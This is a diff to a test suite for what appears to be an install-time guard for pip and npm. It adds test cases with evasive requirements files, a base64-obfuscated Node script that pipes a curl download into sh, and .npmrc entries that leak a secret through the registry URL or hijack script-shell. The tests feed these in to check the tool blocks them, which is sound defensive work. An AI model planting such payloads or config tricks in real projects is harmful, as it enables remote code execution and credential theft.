@@ -206,7 +206,9 @@ class Pip(Base):
         inner = self.dir / "in.txt"
         for outer, nested in [(text.encode(), ""), (text.encode("utf-16"), ""), (b"# coding utf-8, coding= utf-7\n" + text.encode("utf-7"), ""),
                               (b"good\n-r in.txt\n", text), (b"good\n--constraint=./in.txt\n", text),
-                              (b"-r \\\n in.txt\n", text), (b"-r %s/in.txt\n" % self.index.url.encode(), "")]:
+                              (b"-r \\\n in.txt\n", text), (b"-r %s/in.txt\n" % self.index.url.encode(), ""),
+                              (b"good\n-r 'i'n.txt\n", text), (b"-r i\\n.txt\n", text), (b"--pre '-r' in.txt\n", text),
+                              (b"--find-links 'a b' -r in.txt\n", text), (text.encode() + b"#" * (16 << 20), "")]:
             with self.subTest(outer=outer):
                 (self.dir / "r.txt").write_bytes(outer)
                 inner.write_text(nested)
@@ -232,6 +234,15 @@ class Pip(Base):
                         "os.execv(%r, [%r, *args])\n" % (self.python, code.replace("\n", "\n    "), self.python, self.python))
         path.chmod(0o755)
         return path
+
+    def test_a_pip_that_fails_is_told(self):
+        """Also where whoever started us has SIGCHLD ignored, so that the kernel keeps no exit status."""
+        fails = self.dir / "fails"
+        fails.write_text("#!/bin/sh\nexit 3\n")
+        fails.chmod(0o755)
+        ignore = lambda: signal.signal(signal.SIGCHLD, signal.SIG_IGN)
+        p = self.pip("--python", fails, "good", code=69, preexec_fn=ignore)
+        self.assertIn("ended with status 3", p.stderr)
 
     def test_bytes_that_change_after_they_were_judged(self):
         evil = self.dir / "evil.whl"
@@ -390,6 +401,38 @@ class Npm(Base):
         out = json.loads(self.npm("--json", code=2).stdout)
         self.assertEqual((out["verdict"], out["installed"]), ("block", False))
 
+    def test_scripts_of_the_project_itself(self):
+        bad = b"require('child_process').execSync(Buffer.from('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==', 'base64').toString())\n"
+        mark = "require('fs').writeFileSync(process.env.MARK, 'ran')"
+        member = self.project / "packages/m"
+        member.mkdir(parents=True)
+        for root, own in [({"scripts": {"prepare": "npm run other", "other": "node x.js"}}, {}),
+                          ({"workspaces": ["packages/*"]}, {"scripts": {"postinstall": "node ../../x.js"}})]:
+            with self.subTest(root=root):
+                self.lock("good")
+                for name, more in [("package.json", root), ("packages/m/package.json", dict(own, name="m", version="1.0.0"))]:
+                    file = self.project / name
+                    old = json.loads(file.read_text()) if name == "package.json" else {}
+                    file.write_text(json.dumps(dict(old, **more)))
+                lock = json.loads((self.project / "package-lock.json").read_text())
+                lock["packages"][""].update({k: v for k, v in root.items() if k == "workspaces"})
+                if "workspaces" in root:
+                    lock["packages"]["node_modules/m"] = {"resolved": "packages/m", "link": True}
+                    lock["packages"]["packages/m"] = {"version": "1.0.0", "name": "m", "hasInstallScript": True}
+                (self.project / "package-lock.json").write_text(json.dumps(lock))
+                (self.project / "x.js").write_bytes(bad)
+                self.assertIn("fetch-and-run", self.npm("--yes", code=2).stdout)
+                self.nothing()
+                self.npm("--ignore-scripts")
+                self.assertIn("good", self.there())
+                self.assertFalse(self.mark.exists())
+                shutil.rmtree(self.project / "node_modules")
+                (self.project / "x.js").write_text(mark + "\n")
+                self.assertIn("judging the project itself", self.npm().stderr)
+                self.assertTrue(self.mark.exists())
+                self.mark.unlink()
+                shutil.rmtree(self.project / "node_modules")
+
     def test_what_is_known_is_not_even_fetched(self):
         self.lock("good", "axios")
         p = self.npm(code=2)
@@ -455,7 +498,12 @@ class Npm(Base):
         self.env["SECRET"] = "s3cret"
         for text in ("%s/:_authToken=${SECRET}\n" % host.replace("127.0.0.1", "localhost"), "registry=%s/${SECRET}/\n" % self.index.url,
                      "script-shell = ./x.sh\n", "\"script\\u002dshell\"=./x.sh\n", "node-options[] = -r ./x.js\n",
-                     "@s:registry=http://localhost:1/\r//localhost:1/:_authToken=${SECRET}\n"):
+                     "@s:registry=http://localhost:1/\r//localhost:1/:_authToken=${SECRET}\n",
+                     "registry=\"%s/\\u0024{SECRET}/\"\n" % self.index.url, "userconfig=./other\n", "globalconfig = ./other\n",
+                     "prefix=.\n", "script-shell;=./x.sh\n", "\ufeffscript-shell=./x.sh\n", "\u00a0git#=./x.sh\n"):
+            (self.project / "other").write_text("registry=%s/${SECRET}/\n" % self.index.url)
+            (self.project / "etc").mkdir(exist_ok=True)
+            shutil.copy(self.project / "other", self.project / "etc/npmrc")
             with self.subTest(text=text):
                 (self.project / ".npmrc").write_text(text)
                 self.assertIn(".npmrc:", self.npm(code=77).stderr)
